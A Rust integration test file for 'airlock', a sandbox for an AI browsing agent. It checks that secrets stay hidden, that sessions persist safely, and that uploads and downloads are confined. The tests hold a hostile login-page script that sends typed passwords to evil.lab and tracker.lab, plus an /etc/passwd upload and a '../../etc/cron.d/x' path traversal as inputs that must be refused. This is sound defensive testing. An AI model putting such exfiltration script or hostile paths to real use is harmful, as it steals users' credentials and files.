//! Work on real accounts, end to end: the real `airlock` binary, image, Chromium and
//! agent-browser, a scripted worker, lab sites under lab names (the proxy's `--nameserver`):
//! signing in with a secret the worker never sees, starting from a saved session, uploading a
//! caller's file.

// Scenario tests read top to bottom; splitting them would hide the story.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::too_many_lines)]

mod support;

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use airlock_testkit::dns::dns;
use airlock_testkit::docker::docker_ready;
use airlock_testkit::files::{
    CSV, EXPORTED_SECRET, PDF_FIRST_PAGE, PDF_SECOND_PAGE, files_site, report_pdf,
};
use airlock_testkit::site::site;
use base64::Engine;
use serde_json::json;
use support::scripted::{call, no_task_containers_left, page, refusals, strs, task};

#[test]
fn scenario_10_a_worker_signs_in_with_a_secret_it_never_sees() {
    if !docker_ready() {
        return;
    }
    let password = "correct horse & \"battery\" <staple>'é";
    // The hostile (in-scope) login page shows what is typed and tries to send it elsewhere.
    let (evil, evil_seen) = site(|_| HashMap::from([("/", page("evil"))]));
    let hostile = format!(
        "document.getElementById('password').addEventListener('input', (e) => {{ \
           const v = e.target.value; document.getElementById('echo').textContent = 'you typed ' + v; \
           fetch('http://evil.lab:{evil}/steal?p=' + encodeURIComponent(v)).catch(() => {{}}); \
           new Image().src = 'http://evil.lab:{evil}/img?p=' + btoa(unescape(encodeURIComponent(v))); \
           try {{ new WebSocket('ws://evil.lab:{evil}/ws?p=' + encodeURIComponent(v)); }} catch (x) {{}} }});"
    );
    let (port, posted) = airlock_testkit::login::login_site("member", password, &hostile);
    let resolver = dns(HashMap::from([
        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
        ("evil.lab", vec![Ipv4Addr::LOCALHOST]),
    ]));
    let dir = tempfile::tempdir().unwrap();
    let secret_file = dir.path().join("shop-password");
    std::fs::write(&secret_file, format!("{password}\n")).unwrap();
    let shop = format!("http://shop.lab:{port}");
    let script = json!({"turns": [
        {"expect": {"system_contains": ["`shop_pw` (for shop.lab)"]},
         "tool_calls": [call(&json!(["open", format!("{shop}/login")]))]},
        {"tool_calls": [call(&json!(["fill", "#user", "member"]))]},
        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
        {"expect": {"shown_contains": ["Typed secret `shop_pw` into the password field."]},
         "tool_calls": [call(&json!(["wait", "1000"]))]},
        {"tool_calls": [call(&json!(["get", "text", "#echo"]))]},
        {"expect": {"shown_contains": ["you typed [secret:shop_pw]"], "shown_not_contains": [password]},
         "tool_calls": [call(&json!(["eval", "document.getElementById('password').value"]))]},
        {"expect": {"shown_contains": ["not available while this task holds secrets"]},
         "tool_calls": [call(&json!(["click", "#go"]))]},
        {"tool_calls": [call(&json!(["wait", "--url", "**/account"]))]},
        {"tool_calls": [call(&json!(["get", "text", "#welcome"]))]},
        // The cookie the sign-in set is scrubbed too, though it was never loaded or typed.
        {"expect": {"shown_contains": ["Welcome back, member"]},
         "tool_calls": [call(&json!(["get", "text", "#session"]))]},
        {"expect": {"shown_contains": ["Your session: [stored value]"],
                    "shown_not_contains": [airlock_testkit::login::session_value()]},
         "tool_calls": [call(&json!(["open", format!("http://evil.lab:{evil}/")]))]},
        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
        {"expect": {"shown_contains": ["Refused", "`shop_pw`"]},
         "text": "Signed in; the account page says Welcome back, member."}
    ]});
    let (result, output) = task(
        dir.path(),
        &script,
        &[
            "--allow",
            &format!("127.0.0.1:{port}"),
            "--allow",
            &format!("127.0.0.1:{evil}"),
            "--nameserver",
            &format!("127.0.0.1:{resolver}"),
            "--allowed-domain",
            "shop.lab",
            "--secret",
            &format!("shop_pw@shop.lab=file:{}", secret_file.display()),
        ],
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        result["ended"],
        "completed",
        "{result}\n{stderr}\nposted: {} forms",
        posted.lock().unwrap().len()
    );
    // The site got the exact password; the page's attempts to send it elsewhere reached nothing.
    let forms = posted.lock().unwrap().clone();
    assert_eq!(forms.len(), 1, "{forms:?}");
    assert_eq!(forms[0]["password"], password);
    assert!(
        evil_seen.lock().unwrap().is_empty(),
        "evil.lab heard the page"
    );
    let refused = refusals(&result, "target");
    assert!(
        refused.iter().any(|t| t.contains("evil.lab")),
        "{refused:#?}"
    );
    // No output anywhere carries the password in any common spelling.
    let b64 = base64::engine::general_purpose::STANDARD.encode(password);
    let spellings = [
        airlock_testkit::login::session_value().to_owned(),
        password.to_owned(),
        percent_encoding::utf8_percent_encode(password, percent_encoding::NON_ALPHANUMERIC)
            .to_string(),
        serde_json::to_string(password).unwrap(),
        b64.trim_end_matches('=').to_owned(),
        password
            .replace('&', "&amp;")
            .replace('"', "&quot;")
            .replace('<', "&lt;"),
    ];
    for spelling in &spellings {
        for (what, text) in [("result JSON", &stdout), ("log", &stderr)] {
            assert!(
                !text.contains(spelling.as_str()),
                "the {what} holds the password or the session as {spelling}"
            );
        }
    }
    no_task_containers_left();
}

/// A page that received the secret cannot send it on, even to another site the task's scope
/// allows: once a secret is typed, the task reaches only its secrets' sites until it ends, and a
/// refusal names that rule. Before, the login page's beacon to an in-scope tracker got through.
#[test]
fn scenario_10b_after_a_secret_is_typed_only_its_sites_are_reached() {
    if !docker_ready() {
        return;
    }
    let password = "beacon-proof pa55word";
    let (tracker, tracker_seen) = site(|_| HashMap::from([("/", page("tracker"))]));
    let beacon = format!(
        "document.getElementById('password').addEventListener('input', (e) => {{ \
           navigator.sendBeacon('http://tracker.lab:{tracker}/beacon?ev=paste&v=' + encodeURIComponent(e.target.value)); }});"
    );
    let (port, posted) = airlock_testkit::login::login_site("member", password, &beacon);
    let resolver = dns(HashMap::from([
        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
        ("tracker.lab", vec![Ipv4Addr::LOCALHOST]),
    ]));
    let dir = tempfile::tempdir().unwrap();
    let secret_file = dir.path().join("shop-password");
    std::fs::write(&secret_file, password).unwrap();
    let shop = format!("http://shop.lab:{port}");
    let tracker_page = format!("http://tracker.lab:{tracker}/");
    let script = json!({"turns": [
        // Inside the scope, the tracker is reachable before any secret is typed.
        {"tool_calls": [call(&json!(["open", tracker_page]))]},
        {"expect": {"shown_contains": ["tracker"]},
         "tool_calls": [call(&json!(["open", format!("{shop}/login")]))]},
        {"tool_calls": [call(&json!(["fill", "#user", "member"]))]},
        {"tool_calls": [call(&json!(["fill", "#password", "{{secret:shop_pw}}"]))]},
        {"expect": {"shown_contains": ["From now on this task reaches only its secrets' sites (shop.lab)."]},
         "tool_calls": [call(&json!(["click", "#go"]))]},
        {"tool_calls": [call(&json!(["wait", "--url", "**/account"]))]},
        {"tool_calls": [call(&json!(["open", tracker_page]))]},
        {"expect": {"shown_contains": ["a secret was typed in this task"]},
         "text": "Signed in; the tracker is out of reach now."}
    ]});
    let (result, output) = task(
        dir.path(),
        &script,
        &[
            "--allow",
            &format!("127.0.0.1:{port}"),
            "--allow",
            &format!("127.0.0.1:{tracker}"),
            "--nameserver",
            &format!("127.0.0.1:{resolver}"),
            "--allowed-domain",
            "shop.lab",
            "--allowed-domain",
            "tracker.lab",
            "--secret",
            &format!("shop_pw@shop.lab=file:{}", secret_file.display()),
        ],
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(result["ended"], "completed", "{result}\n{stderr}");
    assert_eq!(posted.lock().unwrap().len(), 1);
    // The tracker saw the worker's first visit only: never the beacon, never the second visit.
    let seen = tracker_seen.lock().unwrap().clone();
    assert_eq!(
        seen.iter().filter(|heard| heard.path == "/").count(),
        1,
        "{seen:?}"
    );
    assert!(
        !seen.iter().any(|heard| heard.path.contains("beacon")),
        "{seen:?}"
    );
    let refused = refusals(&result, "reason");
    assert!(
        refused
            .iter()
            .any(|reason| reason.contains("a secret was typed in this task")),
        "{refused:#?}"
    );
    assert!(!result.to_string().contains("pa55word"), "{result}");
    no_task_containers_left();
}

#[test]
fn scenario_11_a_second_task_starts_signed_in_from_the_first_ones_state() {
    if !docker_ready() {
        return;
    }
    let password = "state-pa55word";
    let (port, posted) = airlock_testkit::login::login_site("member", password, "");
    let resolver = dns(HashMap::from([("shop.lab", vec![Ipv4Addr::LOCALHOST])]));
    let dir = tempfile::tempdir().unwrap();
    let secret_file = dir.path().join("pw");
    std::fs::write(&secret_file, password).unwrap();
    let state_file = dir.path().join("state.json");
    let shop = format!("http://shop.lab:{port}");
    let common = [
        "--allow".to_owned(),
        format!("127.0.0.1:{port}"),
        "--nameserver".to_owned(),
        format!("127.0.0.1:{resolver}"),
        "--allowed-domain".to_owned(),
        "shop.lab".to_owned(),
    ];
    let with = |extra: &[String]| -> Vec<String> { common.iter().chain(extra).cloned().collect() };
    let mut turns = airlock_testkit::login::sign_in_turns(&format!("{shop}/login"), "pw");
    turns.push(json!({"text": "Signed in."}));
    let sign_in = json!({ "turns": turns });
    let first = with(&[
        "--secret".to_owned(),
        format!("pw@shop.lab=file:{}", secret_file.display()),
        "--save-state".to_owned(),
        state_file.display().to_string(),
    ]);
    let (result, output) = task(dir.path(), &sign_in, &strs(&first));
    assert_eq!(
        result["ended"],
        "completed",
        "{result}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        result.get("state").is_none(),
        "the state went to stdout: {result}"
    );
    let saved = std::fs::read_to_string(&state_file).unwrap();
    assert!(
        saved.contains(airlock_testkit::login::SESSION.split('=').nth(1).unwrap()),
        "{saved}"
    );
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(&state_file).unwrap().permissions(),
    );
    assert_eq!(mode & 0o777, 0o600);

    // The second task goes straight to the account page: the cookie came with the state.
    let read = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("{shop}/account")]))]},
        {"tool_calls": [call(&json!(["get", "text", "#welcome"]))]},
        {"expect": {"shown_contains": ["Welcome back, member"], "shown_not_contains": ["lab-session-7f3a9c"]},
         "tool_calls": [call(&json!(["get", "text", "body"]))]},
        {"text": "Already signed in."}
    ]});
    let second = with(&["--state".to_owned(), state_file.display().to_string()]);
    let (result, output) = task(dir.path(), &read, &strs(&second));
    assert_eq!(
        result["ended"],
        "completed",
        "{result}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(
        posted.lock().unwrap().len(),
        1,
        "the second task signed in again"
    );

    // A state whose cookie lies outside the scope is refused, naming the cookie.
    let outside = dir.path().join("outside.json");
    std::fs::write(
        &outside,
        json!({"cookies": [{"name": "track", "value": "v-123456", "domain": "tracker.lab", "path": "/"}], "origins": []}).to_string(),
    )
    .unwrap();
    let refused = Command::new(assert_cmd::cargo::cargo_bin("airlock"))
        .args([
            "task",
            "Go",
            "--model",
            "script:/nonexistent.json",
            "--state",
        ])
        .arg(&outside)
        .args(strs(&common))
        .env("AIRLOCK_CONFIG", "/nonexistent/airlock.toml")
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains("cookie `track` for tracker.lab") && !stderr.contains("v-123456"),
        "{stderr}"
    );
    no_task_containers_left();
}

#[test]
fn a_callers_file_is_uploaded_by_name_and_nothing_else_can_be() {
    if !docker_ready() {
        return;
    }
    let (port, received) = airlock_testkit::login::upload_site();
    let resolver = dns(HashMap::from([("forms.lab", vec![Ipv4Addr::LOCALHOST])]));
    let dir = tempfile::tempdir().unwrap();
    // Bytes a text field could never carry: every byte value, twice.
    let bytes: Vec<u8> = (0..=255u8).chain(0..=255u8).collect();
    let file = dir.path().join("report.bin");
    std::fs::write(&file, &bytes).unwrap();
    let form = format!("http://forms.lab:{port}/upload");
    let script = json!({"turns": [
        {"expect": {"system_contains": ["report.bin (512 bytes)"]},
         "tool_calls": [call(&json!(["open", form]))]},
        {"tool_calls": [call(&json!(["upload", "#file", "/etc/passwd"]))]},
        {"expect": {"shown_contains": ["is not one of this task's files"]},
         "tool_calls": [call(&json!(["upload", "#file", "report.bin"]))]},
        {"expect": {"shown_contains": ["Uploaded report.bin (512 bytes) into #file."]},
         "tool_calls": [call(&json!(["click", "#send"]))]},
        {"tool_calls": [call(&json!(["wait", "--text", "received"]))]},
        {"tool_calls": [call(&json!(["get", "text", "#got"]))]},
        {"expect": {"shown_contains": ["received"]}, "text": "Sent."}
    ]});
    let args = [
        "--allow".to_owned(),
        format!("127.0.0.1:{port}"),
        "--nameserver".to_owned(),
        format!("127.0.0.1:{resolver}"),
        "--allowed-domain".to_owned(),
        "forms.lab".to_owned(),
        "--file".to_owned(),
        file.display().to_string(),
    ];
    let (result, output) = task(dir.path(), &script, &strs(&args));
    assert_eq!(
        result["ended"],
        "completed",
        "{result}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let bodies = received.lock().unwrap().clone();
    assert_eq!(bodies.len(), 1);
    // The multipart body carries the file's exact bytes.
    assert!(
        bodies[0]
            .windows(bytes.len())
            .any(|w| w == bytes.as_slice()),
        "the site did not receive the file's exact bytes"
    );
    no_task_containers_left();
}

#[test]
fn scenario_12_files_come_down_within_the_limit_and_a_pdf_is_read_as_text() {
    if !docker_ready() {
        return;
    }
    let (port, asked) = files_site();
    let resolver = dns(HashMap::from([("files.lab", vec![Ipv4Addr::LOCALHOST])]));
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let secret = dir.path().join("export-secret");
    std::fs::write(&secret, EXPORTED_SECRET).unwrap();
    let pdf = report_pdf();
    let read = |input: serde_json::Value| json!({"name": "read_document", "input": input});
    let page_out = json!({"name": "read_output", "input": {"id": "out-1", "find": "lighthouse"}});
    let script = json!({"turns": [
        {"expect": {"system_contains": ["Downloads: you may download up to 8 files (102400 bytes in all)"]},
         "tool_calls": [call(&json!(["open", format!("http://files.lab:{port}/")]))]},
        {"tool_calls": [call(&json!(["download", "#pdf", "../../etc/cron.d/x"]))]},
        {"expect": {"shown_contains": ["is not a file name Airlock saves under"]},
         "tool_calls": [call(&json!(["download", "#pdf", "report.pdf"]))]},
        {"expect": {"shown_contains": [format!("Downloaded report.pdf ({} bytes, application/pdf)", pdf.len())]},
         "tool_calls": [read(json!({"name": "report.pdf"}))]},
        // Longer than the worker is shown at once: a preview, the rest paged with read_output.
        {"expect": {"shown_contains": ["--- page 1 of 2 ---", PDF_FIRST_PAGE, "out-1"]},
         "tool_calls": [page_out]},
        {"expect": {"shown_contains": [PDF_SECOND_PAGE]},
         "tool_calls": [call(&json!(["download", "#csv", "scores.csv"]))]},
        {"expect": {"shown_contains": ["Downloaded scores.csv (23 bytes, text/csv)"]},
         "tool_calls": [call(&json!(["download", "#big", "everything.bin"]))]},
        {"expect": {"shown_contains": ["`everything.bin` is 307200 bytes, over what is left of this task's download limit"]},
         "tool_calls": [call(&json!(["download", "#export", "export.txt"]))]},
        // A file carrying one of the task's secrets is not kept: no secret leaves in a file.
        {"expect": {"shown_contains": ["`export.txt` carries one of this task's secrets; it was deleted"]},
         "tool_calls": [read(json!({"name": "scores.csv"}))]},
        {"expect": {"shown_contains": ["ada,3"]}, "text": "Read both files."}
    ]});
    let args = [
        "--allow".to_owned(),
        format!("127.0.0.1:{port}"),
        "--nameserver".to_owned(),
        format!("127.0.0.1:{resolver}"),
        "--allowed-domain".to_owned(),
        "files.lab".to_owned(),
        "--max-download-bytes".to_owned(),
        "102400".to_owned(),
        "--max-output-chars".to_owned(),
        "1000".to_owned(),
        "--out".to_owned(),
        out.display().to_string(),
        "--secret".to_owned(),
        format!("export_pw@files.lab=file:{}", secret.display()),
    ];
    let (result, output) = task(dir.path(), &script, &strs(&args));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(result["ended"], "completed", "{result}\n{stderr}");
    assert!(!String::from_utf8_lossy(&output.stdout).contains(EXPORTED_SECRET));
    let listed: Vec<(String, String, u64)> = result["downloads"]
        .as_array()
        .unwrap()
        .iter()
        .map(|file| {
            (
                file["name"].as_str().unwrap().to_owned(),
                file["media_type"].as_str().unwrap().to_owned(),
                file["bytes"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        listed,
        [
            (
                "report.pdf".to_owned(),
                "application/pdf".to_owned(),
                pdf.len() as u64
            ),
            (
                "scores.csv".to_owned(),
                "text/csv".to_owned(),
                CSV.len() as u64
            ),
        ]
    );
    // The caller gets the exact bytes, owner-only; the file over the limit is nowhere.
    for (name, bytes) in [
        ("download-report.pdf", pdf.as_slice()),
        ("download-scores.csv", CSV.as_bytes()),
    ] {
        let path = out.join(name);
        assert_eq!(std::fs::read(&path).unwrap(), bytes, "{name}");
        let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{name}");
    }
    let kept: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !kept
            .iter()
            .any(|name| name.contains("everything") || name.contains("export")),
        "{kept:?}"
    );
    // The browser did fetch the large file: it was measured and deleted, not avoided.
    assert!(asked.lock().unwrap().iter().any(|path| path == "/big.bin"));
    no_task_containers_left();
}
